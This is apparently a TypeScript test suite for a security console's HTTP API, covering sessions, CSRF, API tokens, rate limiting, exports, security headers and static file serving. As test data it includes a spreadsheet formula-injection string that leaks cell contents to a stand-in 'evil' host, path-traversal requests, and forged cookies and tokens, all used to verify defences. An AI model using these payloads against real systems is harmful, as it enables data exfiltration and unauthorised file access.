/**
 * The console's HTTP API over real loopback HTTP: authentication on every route, sessions and CSRF, API
 * tokens, login links, rate-limiting that survives a restart, settings validation, exports, live events and
 * security headers.
 */
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import Database from 'better-sqlite3';
import { parse } from 'csv-parse/sync';
import { createConsoleApp, PUBLIC_ROUTES } from '../../../src/serve/http/app';
import { AuthStore, type AuthOptions } from '../../../src/serve/http/auth';
import { startHttp, type RunningHttp } from '../../../src/serve/http/server';
import { cookieOf, makeAction, makeIncident, MemoryBackend } from './support';

const FAST: AuthOptions = { scrypt: { N: 1024, r: 8, p: 1 } };

let dir: string;
beforeAll(() => {
  dir = mkdtempSync(path.join(tmpdir(), 'bulkhead-http-'));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

interface World {
  readonly http: RunningHttp;
  readonly backend: MemoryBackend;
  readonly auth: AuthStore;
  readonly db: Database.Database;
  readonly password: string;
  close(): Promise<void>;
}

let n = 0;
async function world(
  opts: { file?: string; auth?: AuthOptions; staticDir?: string; heartbeatMs?: number } = {},
): Promise<World> {
  const db = new Database(opts.file ?? path.join(dir, `state-${++n}.sqlite`));
  const auth = new AuthStore(db, { ...FAST, ...opts.auth });
  const password = (await auth.ensureAdmin('admin')) ?? '';
  const backend = new MemoryBackend();
  backend.put(makeIncident('inc-1', { severity: 'critical' }), [
    makeAction('inc-1', 'done'),
    makeAction('inc-1', 'awaiting-approval', 'bob'),
  ]);
  backend.put(makeIncident('inc-2', { lastTimestamp: Date.UTC(2026, 10, 2), severity: 'medium' }));
  const http = await startHttp({
    backend,
    auth,
    listen: '127.0.0.1',
    port: 0,
    ...(opts.staticDir !== undefined ? { staticDir: opts.staticDir } : {}),
    ...(opts.heartbeatMs !== undefined ? { heartbeatMs: opts.heartbeatMs } : {}),
  });
  return {
    http,
    backend,
    auth,
    db,
    password,
    close: async () => {
      await http.close();
      db.close();
    },
  };
}

async function login(
  w: World,
  password = w.password,
): Promise<{ cookie: string; csrf: string; res: Response }> {
  const res = await fetch(`${w.http.url}/api/login`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ username: 'admin', password }),
  });
  if (res.status !== 200) return { cookie: '', csrf: '', res };
  const body = (await res.json()) as { csrfToken: string };
  return { cookie: cookieOf(res), csrf: body.csrfToken, res };
}

function send(
  w: World,
  method: string,
  p: string,
  headers: Record<string, string> = {},
  body?: unknown,
): Promise<Response> {
  return fetch(`${w.http.url}${p}`, {
    method,
    redirect: 'manual',
    headers: { ...(body !== undefined ? { 'Content-Type': 'application/json' } : {}), ...headers },
    ...(body !== undefined ? { body: typeof body === 'string' ? body : JSON.stringify(body) } : {}),
  });
}

const errorOf = async (res: Response) =>
  ((await res.json()) as { error: { code: string; message: string; field?: string } }).error;

describe('console HTTP API', () => {
  let w: World;
  beforeAll(async () => {
    w = await world();
  });
  afterAll(() => w.close());

  test('every /api route but login, login link and health refuses a request without valid credentials', async () => {
    const app = createConsoleApp({ backend: w.backend, auth: w.auth });
    const routes = app.routes.filter((r) => r.method !== 'ALL' && r.path.startsWith('/api/'));
    const isPublic = (m: string, p: string) => PUBLIC_ROUTES.some((r) => r.method === m && r.path.test(p));
    const guarded = routes
      .map((r) => ({ method: r.method, path: r.path.replace(/:[a-z]+/gi, 'x') }))
      .filter((r) => !isPublic(r.method, r.path));
    expect(guarded.length).toBeGreaterThanOrEqual(17);
    expect(
      routes
        .filter((r) => isPublic(r.method, r.path.replace(/:[a-z]+/gi, 'x')))
        .map((r) => r.path)
        .sort(),
    ).toEqual(['/api/health', '/api/login', '/api/login-link/:token']);
    const body = ['POST', 'PUT', 'PATCH', 'DELETE'];
    for (const r of guarded) {
      for (const headers of [
        {},
        { Authorization: 'Bearer bkh_nope' },
        { Cookie: 'bulkhead_session=forged' },
      ] as Record<string, string>[]) {
        const res = await send(w, r.method, r.path, headers, body.includes(r.method) ? {} : undefined);
        expect([r.method, r.path, res.status]).toEqual([r.method, r.path, 401]);
        expect((await errorOf(res)).code).toBe('unauthorized');
      }
    }
    // An unknown /api path is refused too, before anything says whether it exists.
    expect((await send(w, 'GET', '/api/nothing-here')).status).toBe(401);
    expect((await send(w, 'GET', '/api/health')).status).toBe(200);
  });

  test('login sets an HttpOnly, SameSite=Strict session cookie and returns a CSRF token; wrong password is 401', async () => {
    const { res, csrf, cookie } = await login(w);
    expect(res.status).toBe(200);
    const set = res.headers.getSetCookie().join('\n');
    expect(set).toMatch(/^bulkhead_session=[A-Za-z0-9_-]{43};/);
    expect(set).toMatch(/HttpOnly/);
    expect(set).toMatch(/SameSite=Strict/);
    expect(set).toMatch(/Path=\//);
    expect(set).not.toMatch(/Secure/); // plain http on loopback
    expect(csrf).toMatch(/^[A-Za-z0-9_-]{43}$/);
    const session = await send(w, 'GET', '/api/session', { Cookie: cookie });
    expect(await session.json()).toMatchObject({ via: 'session', username: 'admin', csrfToken: csrf });

    const wrong = await login(w, 'not-the-password');
    expect(wrong.res.status).toBe(401);
    expect(wrong.res.headers.getSetCookie()).toEqual([]);
    expect((await errorOf(wrong.res)).code).toBe('unauthorized');
  });

  test('behind https the cookie is Secure and __Host- prefixed', async () => {
    const app = createConsoleApp({ backend: w.backend, auth: w.auth, trustProxy: true });
    const res = await app.request('/api/login', {
      method: 'POST',
      headers: {
        'Content-Type': 'application/json',
        'X-Forwarded-Proto': 'https',
        'X-Forwarded-For': '198.51.100.7',
      },
      body: JSON.stringify({ username: 'admin', password: w.password }),
    });
    expect(res.status).toBe(200);
    const set = res.headers.getSetCookie().join('\n');
    expect(set).toMatch(/^__Host-bulkhead_session=[^;]+;.*Secure/);
    const cookie = set.split(';')[0] ?? '';
    expect((await app.request('/api/session', { headers: { Cookie: cookie } })).status).toBe(200);
  });

  test('logout ends the session', async () => {
    const { cookie, csrf } = await login(w);
    expect((await send(w, 'POST', '/api/logout', { Cookie: cookie, 'X-CSRF-Token': csrf })).status).toBe(200);
    expect((await send(w, 'GET', '/api/incidents', { Cookie: cookie })).status).toBe(401);
  });

  test('a state change with the session cookie needs the X-CSRF-Token of that session', async () => {
    const a = await login(w);
    const b = await login(w);
    const status = { status: 'acknowledged', note: 'looking' };
    for (const headers of [
      { Cookie: a.cookie },
      { Cookie: a.cookie, 'X-CSRF-Token': 'x'.repeat(43) },
      { Cookie: a.cookie, 'X-CSRF-Token': b.csrf },
    ] as Record<string, string>[]) {
      const res = await send(w, 'POST', '/api/incidents/inc-2/status', headers, status);
      expect(res.status).toBe(403);
      expect((await errorOf(res)).code).toBe('csrf');
      expect((await send(w, 'PUT', '/api/settings', headers, w.backend.settings)).status).toBe(403);
      expect((await send(w, 'POST', '/api/logout', headers)).status).toBe(403);
    }
    expect(w.backend.incidents.get('inc-2')?.status).toBe('open');
    const ok = await send(
      w,
      'POST',
      '/api/incidents/inc-2/status',
      { Cookie: a.cookie, 'X-CSRF-Token': a.csrf },
      status,
    );
    expect(ok.status).toBe(200);
    expect(w.backend.history.get('inc-2')).toEqual([
      expect.objectContaining({ status: 'acknowledged', note: 'looking', by: 'admin' }),
    ]);
    // Reads need no CSRF token.
    expect((await send(w, 'GET', '/api/incidents', { Cookie: a.cookie })).status).toBe(200);
  });

  test('an API token works without CSRF, is never listed with its secret, cannot mint tokens, and stops at revocation', async () => {
    const { cookie, csrf } = await login(w);
    const created = await send(
      w,
      'POST',
      '/api/tokens',
      { Cookie: cookie, 'X-CSRF-Token': csrf },
      { name: 'soar' },
    );
    expect(created.status).toBe(201);
    const { id, token } = (await created.json()) as { id: string; token: string };
    expect(token).toMatch(/^bkh_[A-Za-z0-9_-]{43}$/);
    const bearer = { Authorization: `Bearer ${token}` };

    const listed = await (await send(w, 'GET', '/api/tokens', { Cookie: cookie })).text();
    expect(listed).toContain('"soar"');
    expect(listed).not.toContain(token);
    expect(listed).not.toContain(token.slice(4));

    const res = await send(w, 'POST', '/api/incidents/inc-2/status', bearer, { status: 'resolved' });
    expect(res.status).toBe(200);
    expect(w.backend.history.get('inc-2')?.at(-1)).toMatchObject({
      status: 'resolved',
      by: 'admin (token soar)',
    });
    expect((await send(w, 'POST', '/api/tokens', bearer, { name: 'another' })).status).toBe(403);

    expect(
      (await send(w, 'DELETE', `/api/tokens/${id}`, { Cookie: cookie, 'X-CSRF-Token': csrf })).status,
    ).toBe(200);
    expect((await send(w, 'GET', '/api/incidents', bearer)).status).toBe(401);
    expect(
      (await send(w, 'DELETE', `/api/tokens/${id}`, { Cookie: cookie, 'X-CSRF-Token': csrf })).status,
    ).toBe(404);
  });

  test('changing the password needs the current one and ends every session', async () => {
    const w2 = await world();
    try {
      const a = await login(w2);
      const b = await login(w2);
      const h = { Cookie: a.cookie, 'X-CSRF-Token': a.csrf };
      const wrongCurrent = await send(w2, 'POST', '/api/password', h, {
        current: 'nope',
        new: 'a new long password',
      });
      expect([wrongCurrent.status, (await errorOf(wrongCurrent)).field]).toEqual([403, 'current']);
      const short = await send(w2, 'POST', '/api/password', h, { current: w2.password, new: 'short' });
      expect([short.status, (await errorOf(short)).field]).toEqual([400, 'new']);
      const token = w2.auth.createToken('bot', 'admin').token;
      expect(
        (
          await send(
            w2,
            'POST',
            '/api/password',
            { Authorization: `Bearer ${token}` },
            { current: w2.password, new: 'a new long password' },
          )
        ).status,
      ).toBe(403);
      expect(
        (await send(w2, 'POST', '/api/password', h, { current: w2.password, new: 'a new long password' }))
          .status,
      ).toBe(200);
      expect((await send(w2, 'GET', '/api/session', { Cookie: a.cookie })).status).toBe(401);
      expect((await send(w2, 'GET', '/api/session', { Cookie: b.cookie })).status).toBe(401);
      expect((await login(w2)).res.status).toBe(401);
      expect((await login(w2, 'a new long password')).res.status).toBe(200);
    } finally {
      await w2.close();
    }
  });

  test('a login link logs in once, then never again', async () => {
    const token = w.auth.createLoginLink();
    const first = await send(w, 'GET', `/api/login-link/${token}`);
    expect(first.status).toBe(303);
    expect(first.headers.get('location')).toBe('/');
    const cookie = cookieOf(first);
    expect((await send(w, 'GET', '/api/session', { Cookie: cookie })).status).toBe(200);
    const again = await send(w, 'GET', `/api/login-link/${token}`);
    expect(again.status).toBe(401);
    expect(again.headers.getSetCookie()).toEqual([]);
    expect((await send(w, 'GET', '/api/login-link/made-up')).status).toBe(401);
  });

  test('incidents: filters, newest first, paging; bad query parameters are named', async () => {
    const bearer = { Authorization: `Bearer ${w.auth.createToken('t', 'admin').token}` };
    const all = (await (await send(w, 'GET', '/api/incidents', bearer)).json()) as {
      total: number;
      incidents: { id: string; actions: unknown[] }[];
    };
    expect(all.incidents.map((i) => i.id)).toEqual(['inc-2', 'inc-1']);
    expect(all.incidents[1]?.actions).toHaveLength(2);
    const high = (await (
      await send(w, 'GET', '/api/incidents?severity=high&limit=1', bearer)
    ).json()) as typeof all;
    expect([high.total, high.incidents.map((i) => i.id)]).toEqual([1, ['inc-1']]);
    const paged = (await (
      await send(w, 'GET', '/api/incidents?limit=1&offset=1', bearer)
    ).json()) as typeof all;
    expect([paged.total, paged.incidents.map((i) => i.id)]).toEqual([2, ['inc-1']]);
    for (const [q, field] of [
      ['severity=urgent', 'severity'],
      ['since=yesterday', 'since'],
      ['limit=0', 'limit'],
      ['status=open,closed', 'status'],
      ['severty=high', 'severty'],
    ] as const) {
      const res = await send(w, 'GET', `/api/incidents?${q}`, bearer);
      expect([q, res.status]).toEqual([q, 400]);
      expect((await errorOf(res)).field).toBe(field);
    }
    const detail = await send(w, 'GET', '/api/incidents/inc-1', bearer);
    expect(await detail.json()).toMatchObject({
      incident: { id: 'inc-1' },
      notifications: [{ channel: 'slack' }],
      history: [],
    });
    expect((await send(w, 'GET', '/api/incidents/nope', bearer)).status).toBe(404);
  });

  test('undo, approve and retry by action id (ids hold / and spaces); a wrong state is 409', async () => {
    const bearer = { Authorization: `Bearer ${w.auth.createToken('t2', 'admin').token}` };
    const undo = `/api/actions/${encodeURIComponent('inc-1/suspend-account jira:svc')}/undo`;
    const res = await send(w, 'POST', undo, bearer);
    expect(res.status).toBe(200);
    expect(await res.json()).toMatchObject({ state: 'undone', by: 'admin (token t2)' });
    const again = await send(w, 'POST', undo, bearer);
    expect(again.status).toBe(409);
    expect((await errorOf(again)).code).toBe('conflict');
    const approve = await send(
      w,
      'POST',
      `/api/actions/${encodeURIComponent('inc-1/suspend-account jira:bob')}/approve`,
      bearer,
    );
    expect(await approve.json()).toMatchObject({ state: 'done' });
    const failed = makeAction('inc-1', 'failed', 'carol');
    w.backend.actions.set(failed.id, failed);
    const retry = `/api/actions/${encodeURIComponent(failed.id)}/retry`;
    const retried = await send(w, 'POST', retry, bearer);
    expect(retried.status).toBe(200);
    expect(await retried.json()).toMatchObject({ state: 'done', by: 'admin (token t2)' });
    expect((await send(w, 'POST', retry, bearer)).status).toBe(409);
    // Without a session or token, as every other route.
    expect((await send(w, 'POST', retry, {})).status).toBe(401);
    expect((await send(w, 'POST', '/api/actions/nothing/undo', bearer)).status).toBe(404);
  });

  test('settings: secrets only say whether they are set; a bad key or value is 400 naming it', async () => {
    const bearer = { Authorization: `Bearer ${w.auth.createToken('t3', 'admin').token}` };
    const got = await send(w, 'GET', '/api/settings', bearer);
    const text = await got.text();
    expect(text).not.toContain('SECRET');
    expect(JSON.parse(text)).toEqual({
      ...w.backend.settings,
      secrets: { 'notify.slack.webhook': { set: true }, 'notify.teams.webhook': { set: false } },
    });
    const good = w.backend.settings;
    const cases: [unknown, string][] = [
      [{ ...good, response: { ...good.response, maxPerHuor: 3 } }, 'response.maxPerHuor'],
      [{ ...good, response: { ...good.response, maxPerHour: -1 } }, 'response.maxPerHour'],
      [{ ...good, response: { ...good.response, minSeverity: 'urgent' } }, 'response.minSeverity'],
      [{ ...good, response: { ...good.response, actions: ['delete-everything'] } }, 'response.actions[0]'],
      [
        { ...good, rules: { 'admin-group-member-added': { enabled: 'yes', dryRun: false, allowList: [] } } },
        'rules.admin-group-member-added.enabled',
      ],
      [
        { ...good, rules: { 'no-such-rule': { enabled: true, dryRun: false, allowList: [] } } },
        'rules.no-such-rule',
      ],
      [{ rules: good.rules }, 'response'],
      [[], '(body)'],
    ];
    for (const [body, field] of cases) {
      const res = await send(w, 'PUT', '/api/settings', bearer, body);
      expect([field, res.status]).toEqual([field, 400]);
      const e = await errorOf(res);
      expect(e.field).toBe(field);
      expect(e.message).toContain(field);
    }
    const bad = await send(w, 'PUT', '/api/settings', bearer, '{"rules": ');
    expect(bad.status).toBe(400);
    expect((await errorOf(bad)).code).toBe('invalid_json');
    const form = await send(
      w,
      'PUT',
      '/api/settings',
      { ...bearer, 'Content-Type': 'text/plain' },
      JSON.stringify(good),
    );
    expect(form.status).toBe(415);
    const next = { ...good, response: { ...good.response, maxPerHour: 3 } };
    const put = await send(w, 'PUT', '/api/settings', bearer, next);
    expect(put.status).toBe(200);
    expect(w.backend.settings.response.maxPerHour).toBe(3);
  });

  test('readiness lists every check and says whether all pass', async () => {
    const bearer = { Authorization: `Bearer ${w.auth.createToken('t4', 'admin').token}` };
    const r = (await (await send(w, 'GET', '/api/readiness', bearer)).json()) as {
      ready: boolean;
      checks: unknown[];
    };
    expect(r.ready).toBe(false);
    expect(r.checks).toHaveLength(2);
  });

  test('CSV export quotes quotes and newlines and defuses formulas; JSON export has the whole incidents', async () => {
    const bearer = { Authorization: `Bearer ${w.auth.createToken('t5', 'admin').token}` };
    w.backend.put(
      makeIncident('inc-3', {
        title: 'He said "hi",\nthen left',
        actor: { name: '=HYPERLINK("http://evil/?"&A1,"click")', kind: 'human' },
        lastTimestamp: Date.UTC(2026, 10, 3),
      }),
    );
    w.backend.put(
      makeIncident('inc-4', {
        title: '+1 -2 @SUM(A1)',
        actor: { name: '@admin', kind: 'human' },
        lastTimestamp: Date.UTC(2026, 10, 4),
      }),
    );
    const res = await send(w, 'GET', '/api/export/incidents.csv', bearer);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(res.headers.get('content-disposition')).toMatch(/^attachment;/);
    const text = await res.text();
    expect(text).toContain('"He said ""hi"",\nthen left"');
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    const byId = new Map(rows.map((r) => [r.id, r]));
    expect(byId.get('inc-3')).toMatchObject({
      title: 'He said "hi",\nthen left',
      actor: `'=HYPERLINK("http://evil/?"&A1,"click")`,
    });
    expect(byId.get('inc-4')).toMatchObject({ title: "'+1 -2 @SUM(A1)", actor: "'@admin" });
    expect(byId.get('inc-1')).toMatchObject({ severity: 'critical', first_seen: '2026-11-01T10:00:00.000Z' });
    const high = parse(
      await (await send(w, 'GET', '/api/export/incidents.csv?severity=critical', bearer)).text(),
      { columns: true },
    ) as unknown[];
    expect(high).toHaveLength(1);

    const json = (await (await send(w, 'GET', '/api/export/incidents.json', bearer)).json()) as {
      incidents: { id: string; timeline: unknown[]; actions: unknown[] }[];
    };
    expect(json.incidents.map((i) => i.id)).toEqual(['inc-4', 'inc-3', 'inc-2', 'inc-1']);
    expect(json.incidents[3]?.timeline).toHaveLength(1);
    expect((await send(w, 'GET', '/api/export/incidents.csv?limit=5', bearer)).status).toBe(400);
  });

  test('security headers on every response: pages, API answers, errors', async () => {
    const { cookie } = await login(w);
    const responses = [
      await send(w, 'GET', '/'),
      await send(w, 'GET', '/console.js'),
      await send(w, 'GET', '/api/health'),
      await send(w, 'GET', '/api/incidents'),
      await send(w, 'GET', '/api/incidents', { Cookie: cookie }),
      await send(w, 'GET', '/api/incidents/none', { Cookie: cookie }),
      await send(w, 'GET', '/no-such-page'),
      await send(w, 'POST', '/api/login', {}, '{'),
    ];
    expect(responses.map((r) => r.status)).toEqual([200, 200, 200, 401, 200, 404, 404, 400]);
    for (const r of responses) {
      const csp = r.headers.get('content-security-policy') ?? '';
      expect(csp).toContain("default-src 'self'");
      expect(csp).toContain("frame-ancestors 'none'");
      expect(r.headers.get('x-content-type-options')).toBe('nosniff');
      expect(r.headers.get('referrer-policy')).toBe('no-referrer');
    }
    expect(responses[4]?.headers.get('cache-control')).toBe('no-store');
  });

  test('the built-in console loads its script from /console.js (no inline script) and labels its inputs', async () => {
    const html = await (await send(w, 'GET', '/')).text();
    expect(html).toContain('<script src="/console.js" defer></script>');
    expect(html).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/);
    expect(html).not.toMatch(/\sstyle=|\son[a-z]+=/);
    for (const id of ['username', 'password', 'status-note']) expect(html).toContain(`<label for="${id}">`);
    const js = await send(w, 'GET', '/console.js');
    expect(js.headers.get('content-type')).toMatch(/^text\/javascript/);
    const source = await js.text();
    expect(source).toContain("new EventSource('/api/events')");
    expect(() => new Function(source)).not.toThrow(); // it parses
    expect(await (await send(w, 'GET', '/console.css')).text()).toContain('.sev-critical');
    const ids = [...source.matchAll(/\$\('([a-z-]+)'\)/g)].map((m) => m[1]);
    expect(ids.length).toBeGreaterThan(10);
    for (const id of new Set(ids)) expect([id, html.includes(`id="${id}"`)]).toEqual([id, true]);
  });
});

describe('live events', () => {
  test('the event stream delivers an incident change, and ends when the session does', async () => {
    const w = await world({ heartbeatMs: 100 });
    try {
      const { cookie, csrf } = await login(w);
      const res = await fetch(`${w.http.url}/api/events`, { headers: { Cookie: cookie } });
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toMatch(/^text\/event-stream/);
      expect(res.headers.get('content-security-policy')).toContain("default-src 'self'");
      const reader = res.body!.getReader();
      const decoder = new TextDecoder();
      let seen = '';
      const until = async (re: RegExp): Promise<void> => {
        while (!re.test(seen)) {
          const { value, done } = await reader.read();
          if (done) throw new Error(`stream ended before ${re}; got ${seen}`);
          seen += decoder.decode(value, { stream: true });
        }
      };
      await until(/event: ready/);
      expect(w.backend.subscribers).toBe(1);
      w.backend.put(makeIncident('inc-9', { title: 'fresh' }));
      await until(/event: incident\ndata: \{"type":"incident","id":"inc-9"\}/);
      await until(/: keep-alive/);

      await send(w, 'POST', '/api/logout', { Cookie: cookie, 'X-CSRF-Token': csrf });
      for (;;) {
        const { done, value } = await reader.read();
        if (done) break;
        seen += decoder.decode(value);
      }
      expect(w.backend.subscribers).toBe(0);
    } finally {
      await w.close();
    }
  });
});

describe('live events, client side', () => {
  test('a client that goes away is unsubscribed; an API token can listen too', async () => {
    const w = await world({ heartbeatMs: 50 });
    try {
      const token = w.auth.createToken('screen', 'admin').token;
      const ctl = new AbortController();
      const res = await fetch(`${w.http.url}/api/events`, {
        headers: { Authorization: `Bearer ${token}` },
        signal: ctl.signal,
      });
      expect(res.status).toBe(200);
      const reader = res.body!.getReader();
      await reader.read();
      expect(w.backend.subscribers).toBe(1);
      ctl.abort();
      await reader.read().catch(() => undefined);
      for (let i = 0; i < 100 && w.backend.subscribers > 0; i++) await new Promise((r) => setTimeout(r, 20));
      expect(w.backend.subscribers).toBe(0);
    } finally {
      await w.close();
    }
  });
});

describe('login rate-limiting', () => {
  const wrong = (url: string, username: string, password = 'wrong-password-1') =>
    fetch(`${url}/api/login`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ username, password }),
    });

  test('the 6th failure in 15 minutes is 429 with Retry-After, also after a restart on the same SQLite file', async () => {
    const file = path.join(dir, 'rate.sqlite');
    const w1 = await world({ file });
    const statuses: number[] = [];
    for (let i = 0; i < 6; i++) statuses.push((await wrong(w1.http.url, 'admin')).status);
    expect(statuses).toEqual([401, 401, 401, 401, 401, 429]);
    const password = w1.password;
    await w1.close();

    const w2 = await world({ file });
    expect(w2.password).toBe(''); // the admin exists already: no new password
    const res = await wrong(w2.http.url, 'admin', password); // even the right password is not checked
    expect(res.status).toBe(429);
    const retry = Number(res.headers.get('retry-after'));
    expect(retry).toBeGreaterThan(800);
    expect(retry).toBeLessThanOrEqual(900);
    expect((await errorOf(res)).code).toBe('rate_limited');
    await w2.close();
  });

  test('attempts sent in parallel are counted before their passwords are checked', async () => {
    const w = await world();
    try {
      const statuses = await Promise.all(
        Array.from({ length: 20 }, () => wrong(w.http.url, 'admin').then((r) => r.status)),
      );
      expect(statuses.filter((s) => s === 401)).toHaveLength(5);
      expect(statuses.filter((s) => s === 429)).toHaveLength(15);
    } finally {
      await w.close();
    }
  });

  test('per client address too: five failures over different usernames block the address', async () => {
    const w = await world();
    try {
      for (let i = 0; i < 5; i++) expect((await wrong(w.http.url, `user${i}`)).status).toBe(401);
      expect((await wrong(w.http.url, 'admin', w.password)).status).toBe(429);
    } finally {
      await w.close();
    }
  });

  test('the window passes: after 15 minutes the account can log in again', async () => {
    let now = Date.UTC(2026, 10, 30, 12);
    const db = new Database(':memory:');
    const auth = new AuthStore(db, { ...FAST, now: () => now });
    const password = (await auth.ensureAdmin())!;
    for (let i = 0; i < 5; i++)
      expect(await auth.login('admin', 'nope', '10.0.0.1')).toEqual({ ok: false, reason: 'invalid' });
    expect(await auth.login('ADMIN', password, '10.0.0.2')).toEqual({
      ok: false,
      reason: 'rate-limited',
      retryAfterSeconds: 900,
    });
    now += 15 * 60_000;
    expect((await auth.login('admin', password, '10.0.0.2')).ok).toBe(true);
    db.close();
  });
});

describe('AuthStore', () => {
  test('the admin password is generated once, strong, and stored only as scrypt with its parameters', async () => {
    const db = new Database(':memory:');
    const auth = new AuthStore(db, { scrypt: { N: 2 ** 14, r: 8, p: 1 } });
    const password = await auth.ensureAdmin('admin');
    expect(password).toMatch(/^[A-Za-z0-9_-]{24}$/);
    expect(await auth.ensureAdmin('admin')).toBeUndefined();
    const stored = auth.storedHash('admin')!;
    expect(stored).toMatch(/^scrypt\$16384\$8\$1\$[A-Za-z0-9+/]{22}==\$[A-Za-z0-9+/]{86}==$/);
    expect(stored).not.toContain(password);
    expect(JSON.stringify(db.prepare('SELECT * FROM auth_users').all())).not.toContain(password);
    expect(await auth.verifyPassword('admin', password!)).toBe(true);
    expect(await auth.verifyPassword('admin', `${password!}x`)).toBe(false);
    expect(await auth.verifyPassword('nobody', password!)).toBe(false);

    // Same password, another salt.
    await auth.setPassword('admin', 'correct horse battery');
    const a = auth.storedHash('admin');
    await auth.setPassword('admin', 'correct horse battery');
    expect(auth.storedHash('admin')).not.toBe(a);
    await expect(auth.setPassword('admin', 'short')).rejects.toThrow(/at least 12/);
    db.close();
  });

  test('raising the scrypt cost re-hashes a password at its next login', async () => {
    const db = new Database(':memory:');
    const password = (await new AuthStore(db, { scrypt: { N: 1024, r: 8, p: 1 } }).ensureAdmin())!;
    const auth = new AuthStore(db, { scrypt: { N: 4096, r: 8, p: 1 } });
    expect(auth.storedHash('admin')).toMatch(/^scrypt\$1024\$/);
    expect((await auth.login('admin', password, '::1')).ok).toBe(true);
    expect(auth.storedHash('admin')).toMatch(/^scrypt\$4096\$/);
    expect(await auth.verifyPassword('admin', password)).toBe(true);
    db.close();
  });

  test('sessions end after the idle timeout and the absolute lifetime, and are stored hashed', async () => {
    let now = 1_000_000;
    const db = new Database(':memory:');
    const auth = new AuthStore(db, { ...FAST, now: () => now, sessionIdleMs: 60_000, sessionTtlMs: 300_000 });
    const password = (await auth.ensureAdmin())!;
    const r = await auth.login('admin', password, '::1');
    if (!r.ok) throw new Error('login failed');
    expect(JSON.stringify(db.prepare('SELECT * FROM auth_sessions').all())).not.toContain(r.session.id);
    for (let i = 0; i < 5; i++) {
      now += 50_000;
      expect(auth.session(r.session.id)?.username).toBe('admin');
    }
    now += 50_001; // 300 001 ms after login
    expect(auth.session(r.session.id)).toBeUndefined();

    const s = await auth.login('admin', password, '::1');
    if (!s.ok) throw new Error('login failed');
    now += 60_000;
    expect(auth.session(s.session.id)).toBeUndefined();
    db.close();
  });

  test('a login link expires after 10 minutes', async () => {
    let now = 0;
    const db = new Database(':memory:');
    const auth = new AuthStore(db, { ...FAST, now: () => now });
    await auth.ensureAdmin();
    const a = auth.createLoginLink();
    const b = auth.createLoginLink();
    now = 10 * 60_000 - 1;
    expect(auth.redeemLoginLink(a)?.username).toBe('admin');
    now += 1;
    expect(auth.redeemLoginLink(b)).toBeUndefined();
    db.close();
  });
});

describe('static console folder', () => {
  test('serves files from the folder, index.html for app paths, and nothing outside it', async () => {
    const root = path.join(dir, 'static-root');
    const site = path.join(root, 'site');
    mkdirSync(path.join(site, 'assets'), { recursive: true });
    writeFileSync(path.join(site, 'index.html'), '<!doctype html><title>built console</title>');
    writeFileSync(path.join(site, 'assets', 'app.js'), 'console.log(1)');
    writeFileSync(path.join(root, 'secret.txt'), 'outside');
    symlinkSync(path.join(root, 'secret.txt'), path.join(site, 'link.txt'));
    const w = await world({ staticDir: site });
    try {
      expect(await (await send(w, 'GET', '/')).text()).toContain('built console');
      const js = await send(w, 'GET', '/assets/app.js');
      expect([js.status, js.headers.get('content-type')]).toEqual([200, 'text/javascript; charset=utf-8']);
      expect(await (await send(w, 'GET', '/incidents/inc-1')).text()).toContain('built console');
      for (const p of [
        '/../secret.txt',
        '/%2e%2e/secret.txt',
        '/assets/%2e%2e%2f..%2fsecret.txt',
        '/link.txt',
        '/missing.js',
      ]) {
        const res = await send(w, 'GET', p);
        expect([p, res.status]).toEqual([p, 404]);
        expect(await res.text()).not.toContain('outside');
      }
      expect((await send(w, 'GET', '/console.js')).status).toBe(404);
    } finally {
      await w.close();
    }
  });
});
